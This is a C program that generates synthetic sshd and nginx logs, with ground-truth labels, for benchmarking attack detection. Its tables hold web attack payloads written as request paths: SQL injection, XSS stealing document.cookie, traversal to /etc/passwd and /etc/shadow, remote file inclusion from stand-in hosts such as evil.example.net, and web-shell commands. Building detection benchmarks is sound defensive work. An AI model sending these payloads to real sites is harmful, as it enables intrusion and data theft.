/*
 * genlogs.c - a log corpus with ground truth for the detection benchmark.
 *
 *   genlogs --sshd N --nginx M [--seed S] [--start EPOCH] --truth FILE OUT
 *
 * Writes N sshd lines (auth.log, RFC 3164 without PRI) and M nginx combined
 * access lines to OUT, shuffled together one line every 50 ms of log time.
 * Most of it is ordinary: publickey and password logins, sessions, a user
 * mistyping a password, internet noise (an invalid user or a dropped
 * connection, once per address); browsing with real browsers and crawlers.
 * Into it go known attacks, each from its own address, listed in FILE one
 * per line as "kind ip first_line last_line lines":
 *
 *   bruteforce   30 failed root passwords from one address within 20 s
 *   spraying     8 invalid users failing from one address within ~2 min
 *   sqli xss traversal rfi webshell scanner
 *                one nginx request each
 *
 * The same seed gives the same bytes. Build: cc -O2 -o genlogs genlogs.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define DT_MS		50		/* log time between two lines */
#define BF_LINES	30
#define BF_SPAN_MS	20000
#define SPRAY_LINES	8
#define SPRAY_SPAN_MS	120000

enum kind { K_NORMAL = 0, K_BF, K_SPRAY, K_SQLI, K_XSS, K_TRAV, K_RFI, K_SHELL, K_SCAN, K_MAX };
static const char *const kind_names[K_MAX] = {
	"normal", "bruteforce", "spraying", "sqli", "xss", "traversal", "rfi", "webshell", "scanner",
};

struct attack {
	enum kind	kind;
	char		ip[40];
	uint64_t	first, last, n;
};

static uint64_t rng_state;

static uint64_t
rnd(void)
{
	uint64_t x = rng_state;

	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	rng_state = x;
	return x * 0x2545F4914F6CDD1DULL;
}

static uint64_t
rn(uint64_t n)
{
	return n ? rnd() % n : 0;
}

static const char *
pick(const char *const *a, size_t n)
{
	return a[rn(n)];
}
#define PICK(a) pick(a, sizeof(a) / sizeof(a[0]))

static const char *const users[] = { "deploy", "alice", "bob", "ops", "git", "backup", "carol", "dave" };
static const char *const noise_users[] = { "test", "admin", "oracle", "guest", "ubuntu", "pi", "user",
	"ftpuser", "postgres", "support", "jenkins", "hadoop" };
static const char *const spray_users[] = { "admin", "test", "oracle", "guest", "ubuntu", "pi", "user",
	"ftp", "mysql", "postgres", "support", "git", "jenkins", "hadoop", "tomcat", "nagios" };
static const char *const browsers[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
	"Mozilla/5.0 (Linux; Android 13; V2154A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36 MicroMessenger/8.0.47",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
};
static const char *const pages[] = { "/", "/index.html", "/about", "/contact", "/news", "/products",
	"/cart", "/login", "/account/orders", "/help/faq", "/static/css/app.css?v=%u", "/static/js/app.js?v=%u",
	"/static/img/logo.png", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/api/v1/items/%u",
	"/api/v1/cart?session=%u", "/product.php?id=%u", "/news/2026/11/%u.html", "/search?q=winter+jacket&page=%u",
	"/search?q=%%E6%%89%%8B%%E6%%9C%%BA&page=%u", "/list?cat=%u&sort=price&order=asc",
	"/download?file=manual-%u.pdf", "/images/gallery/%u.jpg", "/user/profile?uid=%u&tab=settings",
	"/oauth/callback?code=%u&state=xyz", "/login?next=%%2Faccount%%2Forders", "/static/fonts/icons.woff2" };

static const char *const sqli[] = {
	"/product.php?id=%u%%27%%20or%%201=1--",
	"/news?id=%u+union+select+1,2,group_concat(username,0x3a,password)+from+users--",
	"/list?cat=%u%%20and%%20sleep(5)",
	"/item?id=%u%%20AND%%20BENCHMARK(5000000,MD5(1))",
	"/product.php?id=-%u+UNION+ALL+SELECT+table_name,2+FROM+information_schema.tables--",
	"/api/v1/items?sort=id%%20desc;select%%20pg_sleep(%u)--",
	"/login.php?user=admin%%27%%20or%%20%%271%%27=%%271&pw=%u",
};
static const char *const xss[] = {
	"/search?q=%%3Cscript%%3Ealert(%u)%%3C/script%%3E",
	"/comment?text=<script>alert(document.cookie)</script>&id=%u",
	"/redirect?to=javascript:alert(%u)",
	"/profile?name=x%%22%%20onerror=alert(%u)%%20src=%%22",
	"/search?q=%%3Csvg/onload=alert(%u)%%3E",
};
static const char *const trav[] = {
	"/download?file=../../../../etc/passwd&v=%u",
	"/static/..%%2f..%%2f..%%2f..%%2fetc%%2fpasswd?%u",
	"/view?page=%%2e%%2e%%2f%%2e%%2e%%2f%%2e%%2e%%2fetc%%2fshadow&x=%u",
	"/cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/etc/passwd?%u",
	"/img?path=....//....//....//windows/win.ini&%u",
};
static const char *const rfi[] = {
	"/index.php?page=http://evil.example.net/shell.txt?&%u",
	"/main.php?include=https://203.0.113.9/r57.txt&x=%u",
	"/view.php?file=ftp://198.51.100.7/c99.txt&x=%u",
	"/index.php?template=http%%3A%%2F%%2Fbad.example.org%%2Fx.txt%%3F&%u",
	"/index.php?page=php://filter/convert.base64-encode/resource=index&%u",
};
static const char *const shells[] = {
	"/uploads/shell.php?%u",
	"/images/cmd.jsp?cmd=whoami&%u",
	"/wp-content/uploads/2026/11/c99.php?%u",
	"/upload/b374k.php?%u",
	"/data/%%E5%%A4%%A7%%E9%%A9%%AC.php?%u",
	"/upload/avatar_%u.php?exec=id",
	"/tmp/wso.php?%u",
	"/static/r57.php?%u",
};
static const char *const scanners[] = {
	"sqlmap/1.7.11#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007654)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"Mozilla/5.0 zgrab/0.x",
	"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
	"gobuster/3.6",
	"python-requests/2.31.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 Acunetix-Product",
	"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus",
	"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
};
static const char *const scan_pages[] = { "/", "/robots.txt", "/admin/", "/.env", "/login", "/index.php" };

static const char *const months[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep",
	"Oct", "Nov", "Dec" };

/* Normal web clients and office addresses: small pools, like real sites. */
static void
client_ip(char *out, size_t n)
{
	static const unsigned first[] = { 36, 58, 101, 110, 114, 117, 120, 123, 180, 183, 211, 218, 221, 223 };
	uint64_t x = rn(20000);

	snprintf(out, n, "%u.%u.%u.%u", first[x % 14], (unsigned)(x / 14 % 250) + 1,
		(unsigned)(x * 7 % 250) + 1, (unsigned)(x * 13 % 250) + 1);
}

/* Addresses that appear once: internet noise against sshd. */
static void
noise_ip(char *out, size_t n, uint64_t k)
{
	snprintf(out, n, "%u.%u.%u.%u", 150 + (unsigned)(k >> 24 & 31), (unsigned)(k >> 16 & 255),
		(unsigned)(k >> 8 & 255), (unsigned)(k & 255));
}

/* Attackers: 45.x and 185.x, one address per attack. */
static void
attacker_ip(char *out, size_t n, unsigned k)
{
	snprintf(out, n, "%u.%u.%u.%u", k % 2 ? 185 : 45, 100 + (k >> 16 & 63), (k >> 8) & 255, (k & 255) + 0);
}

static void
stamp_syslog(char *out, size_t n, int64_t ms)
{
	time_t t = (time_t)(ms / 1000) + 8 * 3600;	/* logs in UTC+8 */
	struct tm tm;

	gmtime_r(&t, &tm);
	snprintf(out, n, "%s %2d %02d:%02d:%02d", months[tm.tm_mon], tm.tm_mday, tm.tm_hour, tm.tm_min,
		tm.tm_sec);
}

static void
stamp_nginx(char *out, size_t n, int64_t ms)
{
	time_t t = (time_t)(ms / 1000) + 8 * 3600;
	struct tm tm;

	gmtime_r(&t, &tm);
	snprintf(out, n, "%02d/%s/%04d:%02d:%02d:%02d +0800", tm.tm_mday, months[tm.tm_mon],
		tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
}

static void
sshd_line(FILE *f, int64_t ms, const char *msg)
{
	char ts[32];

	stamp_syslog(ts, sizeof(ts), ms);
	fprintf(f, "%s web-1 sshd[%u]: %s\n", ts, 1000 + (unsigned)rn(60000), msg);
}

static void
nginx_line(FILE *f, int64_t ms, const char *ip, const char *method, const char *target, int status,
	const char *ua)
{
	char ts[40];

	stamp_nginx(ts, sizeof(ts), ms);
	fprintf(f, "%s - - [%s] \"%s %s HTTP/1.1\" %d %u \"%s\" \"%s\"\n", ip, ts, method, target, status,
		status == 304 ? 0 : 200 + (unsigned)rn(60000),
		rn(3) ? "https://shop.example.cn/" : "-", ua);
}

static void
normal_sshd(FILE *f, int64_t ms, uint64_t *noise)
{
	char msg[512], ip[40];
	uint64_t x = rn(100), ui = rn(sizeof(users) / sizeof(users[0]));
	const char *u = users[ui];

	/* each user works from a few machines of their own */
	snprintf(ip, sizeof(ip), "10.0.%u.%u", (unsigned)rn(4), 10 + (unsigned)ui * 5 + (unsigned)rn(5));
	if (x < 25) {
		snprintf(msg, sizeof(msg), "Accepted publickey for %s from %s port %u ssh2: ED25519 "
			"SHA256:k1Yb3mQ0fJx8sP2aZ7cV9uN4tR6wE5yH1gL0dK3oI2U", u, ip, 30000 + (unsigned)rn(30000));
	} else if (x < 35) {
		snprintf(msg, sizeof(msg), "Accepted password for %s from %s port %u ssh2", u, ip,
			30000 + (unsigned)rn(30000));
	} else if (x < 55) {
		snprintf(msg, sizeof(msg), "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
			u, 1000 + (unsigned)rn(8));
	} else if (x < 75) {
		snprintf(msg, sizeof(msg), "pam_unix(sshd:session): session closed for user %s", u);
	} else if (x < 83) {
		snprintf(msg, sizeof(msg), "Received disconnect from %s port %u:11: disconnected by user", ip,
			30000 + (unsigned)rn(30000));
	} else if (x < 88) {
		snprintf(msg, sizeof(msg), "Disconnected from user %s %s port %u", u, ip, 30000 + (unsigned)rn(30000));
	} else if (x < 90) {
		/* someone mistyping a password, now and then */
		if (rn(10) == 0)
			snprintf(msg, sizeof(msg), "Failed password for %s from %s port %u ssh2", u, ip,
				30000 + (unsigned)rn(30000));
		else
			snprintf(msg, sizeof(msg), "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
				u, 1000 + (unsigned)ui);
	} else if (x < 95) {
		/* internet noise: each address once */
		noise_ip(ip, sizeof(ip), (*noise)++);
		if (x < 92)
			snprintf(msg, sizeof(msg), "Invalid user %s from %s port %u", PICK(noise_users), ip,
				1024 + (unsigned)rn(60000));
		else if (x < 94)
			snprintf(msg, sizeof(msg), "Connection closed by %s port %u [preauth]", ip,
				1024 + (unsigned)rn(60000));
		else
			snprintf(msg, sizeof(msg), "Failed password for invalid user %s from %s port %u ssh2",
				PICK(noise_users), ip, 1024 + (unsigned)rn(60000));
	} else if (x < 96) {
		snprintf(msg, sizeof(msg), "Connection closed by authenticating user %s %s port %u [preauth]", u,
			ip, 30000 + (unsigned)rn(30000));
	} else {
		snprintf(msg, sizeof(msg), "pam_unix(sshd:session): session closed for user %s", u);
	}
	sshd_line(f, ms, msg);
}

static void
normal_nginx(FILE *f, int64_t ms)
{
	static const int statuses[] = { 200, 200, 200, 200, 200, 200, 200, 304, 304, 301, 404, 200 };
	char ip[40], target[512];
	const char *page = PICK(pages);

	client_ip(ip, sizeof(ip));
	snprintf(target, sizeof(target), page, (unsigned)rn(100000));
	nginx_line(f, ms, ip, rn(20) ? "GET" : "POST", target, statuses[rn(sizeof(statuses) / sizeof(statuses[0]))], PICK(browsers));
}

static void
usage(void)
{
	fprintf(stderr, "usage: genlogs --sshd N --nginx M [--seed S] [--start EPOCH] --truth FILE OUT\n");
	exit(2);
}

int
main(int argc, char **argv)
{
	uint64_t nsshd = 0, nnginx = 0, seed = 1, total, nssh_att, nweb_att, noise = 1;
	int64_t start_ms = 1795276800000LL;	/* 2026-11-21T16:00:00Z = 22 Nov 00:00 +08 */
	const char *truth_path = NULL, *out_path = NULL;
	uint8_t *slot_kind;
	uint32_t *slot_att;
	uint64_t *ssh_slots, *web_slots, ns = 0, nw = 0;
	struct attack *att;
	size_t natt = 0;
	FILE *out, *truth;
	static char obuf[1 << 20];

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--sshd") == 0 && i + 1 < argc)
			nsshd = strtoull(argv[++i], NULL, 10);
		else if (strcmp(argv[i], "--nginx") == 0 && i + 1 < argc)
			nnginx = strtoull(argv[++i], NULL, 10);
		else if (strcmp(argv[i], "--seed") == 0 && i + 1 < argc)
			seed = strtoull(argv[++i], NULL, 10);
		else if (strcmp(argv[i], "--start") == 0 && i + 1 < argc)
			start_ms = strtoll(argv[++i], NULL, 10) * 1000;
		else if (strcmp(argv[i], "--truth") == 0 && i + 1 < argc)
			truth_path = argv[++i];
		else if (argv[i][0] == '-' && argv[i][1] != '\0')
			usage();
		else if (out_path == NULL)
			out_path = argv[i];
		else
			usage();
	}
	if (truth_path == NULL || out_path == NULL || nsshd + nnginx == 0)
		usage();
	rng_state = seed * 0x9E3779B97F4A7C15ULL + 0x1234567;
	if (rng_state == 0)
		rng_state = 1;
	total = nsshd + nnginx;

	/* which slot is which log, shuffled */
	slot_kind = calloc(total, 1);
	slot_att = calloc(total, sizeof(*slot_att));
	ssh_slots = malloc((nsshd + 1) * sizeof(*ssh_slots));
	web_slots = malloc((nnginx + 1) * sizeof(*web_slots));
	if (slot_kind == NULL || slot_att == NULL || ssh_slots == NULL || web_slots == NULL) {
		fprintf(stderr, "genlogs: out of memory\n");
		return 1;
	}
	for (uint64_t i = 0; i < total; i++)
		slot_kind[i] = i < nsshd ? 1 : 2;
	for (uint64_t i = total - 1; i > 0; i--) {
		uint64_t j = rn(i + 1);
		uint8_t t = slot_kind[i];

		slot_kind[i] = slot_kind[j];
		slot_kind[j] = t;
	}
	for (uint64_t i = 0; i < total; i++) {
		if (slot_kind[i] == 1)
			ssh_slots[ns++] = i;
		else
			web_slots[nw++] = i;
		slot_kind[i] = K_NORMAL;	/* from now on: the attack kind */
	}

	/* the attacks: brute force and spraying in sshd, one request each in nginx */
	nssh_att = nsshd >= 2000 ? nsshd / 50000 + 2 : 0;
	nweb_att = nnginx >= 1000 ? nnginx / 10000 + 3 : 0;
	att = calloc(2 * nssh_att + 6 * nweb_att + 1, sizeof(*att));
	if (nssh_att > 0) {
		/* each attack in its own chunk of the sshd lines */
		uint64_t chunk = ns / (2 * nssh_att);
		double per_ms = (double)ns / ((double)total * DT_MS);	/* sshd lines per ms */

		for (uint64_t a = 0; a < 2 * nssh_att; a++) {
			enum kind k = a % 2 ? K_SPRAY : K_BF;
			uint64_t lines = k == K_BF ? BF_LINES : SPRAY_LINES;
			double span = k == K_BF ? BF_SPAN_MS : SPRAY_SPAN_MS;
			uint64_t stride = (uint64_t)(span * per_ms / (double)lines);
			uint64_t base, room;

			if (stride < 1)
				stride = 1;
			if (lines * stride + 1 > chunk)
				stride = chunk / (lines + 1) ? chunk / (lines + 1) : 1;
			room = chunk > lines * stride ? chunk - lines * stride : 1;
			base = a * chunk + rn(room);
			att[natt].kind = k;
			attacker_ip(att[natt].ip, sizeof(att[natt].ip), (unsigned)natt + 1);
			for (uint64_t l = 0; l < lines && base + l * stride < ns; l++) {
				uint64_t s = ssh_slots[base + l * stride];

				slot_kind[s] = (uint8_t)k;
				slot_att[s] = (uint32_t)natt;
			}
			natt++;
		}
	}
	if (nweb_att > 0) {
		uint64_t chunk = nw / (6 * nweb_att);

		for (uint64_t a = 0; a < 6 * nweb_att; a++) {
			uint64_t s = web_slots[a * chunk + rn(chunk)];

			att[natt].kind = (enum kind)(K_SQLI + a % 6);
			attacker_ip(att[natt].ip, sizeof(att[natt].ip), (unsigned)natt + 1);
			slot_kind[s] = (uint8_t)att[natt].kind;
			slot_att[s] = (uint32_t)natt;
			natt++;
		}
	}

	out = fopen(out_path, "w");
	truth = fopen(truth_path, "w");
	if (out == NULL || truth == NULL) {
		fprintf(stderr, "genlogs: %s: %s\n", out == NULL ? out_path : truth_path, strerror(errno));
		return 1;
	}
	setvbuf(out, obuf, _IOFBF, sizeof(obuf));
	{
		uint64_t si = 0, wi = 0;

		for (uint64_t i = 0; i < total; i++) {
			int64_t ms = start_ms + (int64_t)i * DT_MS;
			bool is_ssh = si < ns && ssh_slots[si] == i;
			enum kind k = (enum kind)slot_kind[i];
			char target[512], msg[512];

			if (is_ssh)
				si++;
			else
				wi++;
			if (k == K_NORMAL) {
				if (is_ssh)
					normal_sshd(out, ms, &noise);
				else
					normal_nginx(out, ms);
				continue;
			}
			struct attack *a = &att[slot_att[i]];

			if (a->n == 0)
				a->first = i + 1;
			a->last = i + 1;
			a->n++;
			switch (k) {
			case K_BF:
				snprintf(msg, sizeof(msg), "Failed password for root from %s port %u ssh2", a->ip,
					30000 + (unsigned)rn(30000));
				sshd_line(out, ms, msg);
				break;
			case K_SPRAY:
				snprintf(msg, sizeof(msg), "Failed password for invalid user %s from %s port %u ssh2",
					spray_users[(a->n - 1) % (sizeof(spray_users) / sizeof(spray_users[0]))], a->ip,
					30000 + (unsigned)rn(30000));
				sshd_line(out, ms, msg);
				break;
			case K_SCAN:
				nginx_line(out, ms, a->ip, "GET", PICK(scan_pages), rn(2) ? 404 : 200, PICK(scanners));
				break;
			default: {
				const char *fmt = k == K_SQLI ? PICK(sqli) : k == K_XSS ? PICK(xss) :
					k == K_TRAV ? PICK(trav) : k == K_RFI ? PICK(rfi) : PICK(shells);

				snprintf(target, sizeof(target), fmt, (unsigned)rn(1000));
				nginx_line(out, ms, a->ip, k == K_SHELL && rn(2) ? "POST" : "GET", target,
					rn(3) ? 200 : 404, PICK(browsers));
				break;
			}
			}
		}
		(void)wi;
	}
	for (size_t i = 0; i < natt; i++)
		fprintf(truth, "%s %s %llu %llu %llu\n", kind_names[att[i].kind], att[i].ip,
			(unsigned long long)att[i].first, (unsigned long long)att[i].last,
			(unsigned long long)att[i].n);
	if (fclose(out) != 0 || fclose(truth) != 0) {
		fprintf(stderr, "genlogs: write: %s\n", strerror(errno));
		return 1;
	}
	fprintf(stderr, "genlogs: %llu lines (%llu sshd, %llu nginx), %zu attacks\n",
		(unsigned long long)total, (unsigned long long)ns, (unsigned long long)nw, natt);
	free(slot_kind);
	free(slot_att);
	free(ssh_slots);
	free(web_slots);
	free(att);
	return 0;
}
